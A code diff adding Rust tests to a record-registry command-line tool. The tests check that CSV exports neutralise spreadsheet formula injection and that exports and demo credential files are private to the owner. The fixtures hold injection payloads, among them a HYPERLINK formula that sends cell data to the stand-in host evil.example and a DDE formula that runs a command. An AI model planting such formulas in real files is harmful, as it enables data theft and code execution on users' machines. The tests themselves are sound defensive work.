@@ -1283,3 +1283,108 @@ fn a_hub_server_killed_mid_registration_loses_nothing() {
     a_killed_server_loses_nothing_it_acknowledged(&["--db", hub.url.as_str()]);
     runtime.block_on(hub.drop_database());
 }
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+#[test]
+fn exported_cells_never_run_as_formulas_and_exports_are_the_owners_alone() {
+    let dir = tempfile::tempdir().unwrap();
+    let (db, csv) = (dir.path().join("r.db"), dir.path().join("in.csv"));
+    let typed = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "-1+2",
+    ];
+    let mut input = String::from("record_id,given_name,father_name,family_name,document_number\n");
+    input.push_str(&format!(
+        "r-1,\"{}\",\"{}\",\"{}\",\"{}\"\n",
+        typed[0].replace('"', "\"\""),
+        typed[1],
+        typed[2],
+        typed[3]
+    ));
+    std::fs::write(&csv, input).unwrap();
+    let o = peywand(&[
+        "import",
+        "--db",
+        db.to_str().unwrap(),
+        csv.to_str().unwrap(),
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    let out_path = dir.path().join("out.csv");
+    // A file left readable by everyone before is made the owner's as the export fills it.
+    std::fs::write(&out_path, "old").unwrap();
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&out_path, std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+    let out = export(&db, &out_path);
+    let mut rows = csv::Reader::from_reader(out.as_bytes());
+    let header = rows.headers().unwrap().clone();
+    let row = rows.records().next().unwrap().unwrap();
+    for (column, value) in [
+        ("given_name", typed[0]),
+        ("father_name", typed[1]),
+        ("family_name", typed[2]),
+        ("document_number", typed[3]),
+    ] {
+        let at = header.iter().position(|h| h == column).unwrap();
+        // Led by an apostrophe, a spreadsheet shows the value as text.
+        assert_eq!(row.get(at).unwrap(), format!("'{value}"), "{column}");
+    }
+    #[cfg(unix)]
+    assert_eq!(mode(&out_path), 0o600, "the export is readable by others");
+    // Read back, every value is as typed: exported again, the file is the same.
+    let db2 = dir.path().join("r2.db");
+    let o = peywand(&[
+        "import",
+        "--db",
+        db2.to_str().unwrap(),
+        out_path.to_str().unwrap(),
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    assert_eq!(export(&db2, &dir.path().join("again.csv")), out);
+}
+
+#[cfg(unix)]
+#[test]
+fn the_demo_keeps_its_data_and_accounts_from_other_users_of_the_machine() {
+    use std::io::BufRead;
+    let dir = tempfile::tempdir().unwrap();
+    let demo = dir.path().join("demo-data");
+    let mut server = Command::new(env!("CARGO_BIN_EXE_peywand"))
+        .args(["demo", "--dir", demo.to_str().unwrap(), "--people", "200"])
+        .args(["--addr", "127.0.0.1:0"])
+        .env("PEYWAND_LOG", "error")
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let stdout = std::io::BufReader::new(server.stdout.take().unwrap());
+    let running = stdout
+        .lines()
+        .map_while(Result::ok)
+        .any(|line| line.contains("Peywand is running"));
+    server.kill().unwrap();
+    server.wait().unwrap();
+    assert!(running, "the demo did not start");
+    assert_eq!(mode(&demo), 0o700, "the demo folder is open to others");
+    assert_eq!(mode(&demo.join("data")), 0o700);
+    for file in [
+        "data/registry.csv",
+        "data/truth.csv",
+        "credentials.txt",
+        "demo.key",
+    ] {
+        assert_eq!(
+            mode(&demo.join(file)),
+            0o600,
+            "{file} is readable by others"
+        );
+    }
+}
